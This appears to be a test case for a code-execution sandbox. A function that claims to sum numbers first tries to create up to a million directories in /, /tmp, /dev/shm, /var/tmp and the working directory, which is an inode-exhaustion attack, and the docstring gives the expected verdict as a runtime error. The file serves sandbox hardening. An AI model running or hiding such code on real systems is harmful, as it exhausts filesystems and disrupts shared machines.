"""verdict: RTE
why: no directory is writable, so there is no inode to take
"""

import os


def total(numbers):
    for folder in ("/", "/tmp", "/dev/shm", "/var/tmp", "."):
        for n in range(10**6):
            try:
                os.mkdir(f"{folder}/{n}")
            except FileNotFoundError:
                break
    return sum(numbers)
